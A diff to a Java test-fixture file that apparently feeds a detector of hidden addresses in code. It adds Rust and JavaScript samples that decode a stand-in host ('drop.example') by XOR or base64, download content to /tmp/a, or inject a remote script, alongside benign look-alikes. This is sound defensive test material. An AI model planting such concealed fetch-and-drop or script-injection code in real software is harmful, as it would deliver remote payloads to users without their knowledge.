@@ -113,6 +113,71 @@ final class HiddenAddressSamples {
                         18
                     }
                     """)),
+        new Sample(
+            "a function of Rust mixes an address with a key, by what it was built for",
+            Artifact.crate("sample", "1.0.0")
+                .file("Cargo.toml", "[package]\nname = \"sample\"\nversion = \"1.0.0\"\n")
+                .file(
+                    "src/lib.rs",
+                    """
+                    const K: &[u8] = b"key";
+                    fn parse(b: &[u8]) -> String {
+                        b.iter().enumerate().map(|(i, c)| (c ^ K[i % K.len()]) as char).collect()
+                    }
+                    pub fn new() {
+                        let url = if cfg!(target_os = "macos") { parse(&[0x03, 0x11, 0x0d]) } else { parse(&[0x03, 0x11, 0x0e]) };
+                        let mut buf = Vec::new();
+                        if let Ok(r) = ureq::get(&url).set("User-Agent", "a").call() {
+                            let _ = r.into_reader().read_to_end(&mut buf);
+                        }
+                        let _ = std::fs::write("/tmp/a", &buf);
+                    }
+                    """)),
+        new Sample(
+            "an arm of Rust mixes an address with a key",
+            Artifact.crate("sample", "1.0.0")
+                .file("Cargo.toml", "[package]\nname = \"sample\"\nversion = \"1.0.0\"\n")
+                .file(
+                    "src/lib.rs",
+                    """
+                    const K: &[u8] = b"key";
+                    fn parse(b: &[u8]) -> String {
+                        b.iter().enumerate().map(|(i, c)| (c ^ K[i % K.len()]) as char).collect()
+                    }
+                    pub fn new() {
+                        let url = match std::env::consts::OS { "macos" => parse(&[0x03, 0x11, 0x0d]), _ => parse(&[0x03, 0x11, 0x0e]) };
+                        if let Ok(r) = ureq::get(&url).call() {
+                            let _ = std::fs::write("/tmp/a", r.into_string());
+                        }
+                    }
+                    """)),
+        new Sample(
+            "a client of Rust is told an address that begins encoded",
+            Artifact.crate("sample", "1.0.0")
+                .file("Cargo.toml", "[package]\nname = \"sample\"\nversion = \"1.0.0\"\n")
+                .file(
+                    "src/lib.rs",
+                    """
+                    fn u(s: &str) -> String {
+                        String::from_utf8(STANDARD.decode(s).unwrap_or_default()).unwrap_or_default()
+                    }
+                    fn body(path: &str) -> Option<Vec<u8>> {
+                        let url = format!("{}{}", u("aHR0cHM6Ly9kcm9wLmV4YW1wbGUv"), path);
+                        let c = reqwest::blocking::Client::builder().build().ok()?;
+                        Some(c.get(url).send().ok()?.bytes().ok()?.to_vec())
+                    }
+                    pub fn version() -> u32 {
+                        body("init");
+                        19
+                    }
+                    """)),
+        Sample.required(
+            "a script of a page comes from an address whose scheme is left out, and which is encoded",
+            """
+            const s = document.createElement('script');
+            s.src = '//' + atob('eC5kcm9wLmV4YW1wbGU=') + '/a.js';
+            document.head.appendChild(s);
+            """),
         Sample.required(
             "code opens with a key that is made of the name of the machine",
             """
@@ -138,6 +203,51 @@ final class HiddenAddressSamples {
 
   static List<Sample> lookAlikes() {
     return List.of(
+        new Sample(
+            "a request of Rust is signed with what was decoded",
+            Artifact.crate("sample", "1.0.0")
+                .file("Cargo.toml", "[package]\nname = \"sample\"\nversion = \"1.0.0\"\n")
+                .file(
+                    "src/lib.rs",
+                    """
+                    fn key(s: &str) -> Vec<u8> {
+                        STANDARD.decode(s).unwrap_or_default()
+                    }
+                    pub fn ask(endpoint: &str) -> Option<String> {
+                        let client = reqwest::blocking::Client::builder().build().ok()?;
+                        let secret = key("c2VjcmV0LXdvcmQ=");
+                        let name = key("ZXRhZw==");
+                        let answer = client.get(endpoint).header("X-Sign", sign(&secret, endpoint)).send().ok()?;
+                        answer.headers().get(&name).map(|v| v.to_string())
+                    }
+                    """)),
+        new Sample(
+            "a client of Rust is told an address, and something else is decoded",
+            Artifact.crate("sample", "1.0.0")
+                .file("Cargo.toml", "[package]\nname = \"sample\"\nversion = \"1.0.0\"\n")
+                .file(
+                    "src/lib.rs",
+                    """
+                    fn key(s: &str) -> Vec<u8> {
+                        STANDARD.decode(s).unwrap_or_default()
+                    }
+                    fn body(path: &str) -> Option<Vec<u8>> {
+                        let url = format!("{}{}", "https://files.acme.example/", path);
+                        let c = reqwest::blocking::Client::builder().build().ok()?;
+                        Some(c.get(url).send().ok()?.bytes().ok()?.to_vec())
+                    }
+                    pub fn checked(path: &str) -> bool {
+                        let public = key("aHR0cHM6Ly9kcm9wLmV4YW1wbGUv");
+                        verify(&public, &body(path).unwrap_or_default())
+                    }
+                    """)),
+        Sample.required(
+            "a page is led on by an address of the code, behind a table that was decoded",
+            """
+            const names = atob('YSxiLGM=').split(',');
+            const sites = { a: 'https://docs.acme.example/a' };
+            exports.open = (key) => { location.href = sites[names[key]] || 'https://docs.acme.example/' + names[key]; };
+            """),
         Sample.required(
             "what is sent was decoded, and the address is written down",
             """
